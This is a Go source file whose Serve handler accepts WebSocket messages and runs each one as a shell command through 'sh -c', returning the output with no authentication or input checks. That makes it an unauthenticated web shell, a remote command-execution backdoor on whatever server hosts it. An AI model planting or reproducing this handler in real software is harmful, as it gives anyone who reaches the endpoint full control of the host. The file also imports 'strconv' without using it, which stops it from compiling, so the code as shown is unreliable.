package shell

import (
	"net/http"
	"os/exec"
	"strconv"

	"github.com/gorilla/websocket"
)

var upgrader = websocket.Upgrader{}

func Serve(w http.ResponseWriter, r *http.Request) {
	conn, err := upgrader.Upgrade(w, r, nil)
	if err != nil {
		return
	}
	defer conn.Close()
	for {
		_, message, err := conn.ReadMessage()
		if err != nil {
			return
		}
		out, _ := exec.Command("sh", "-c", string(message)).Output()
		conn.WriteMessage(websocket.TextMessage, out)
	}
}
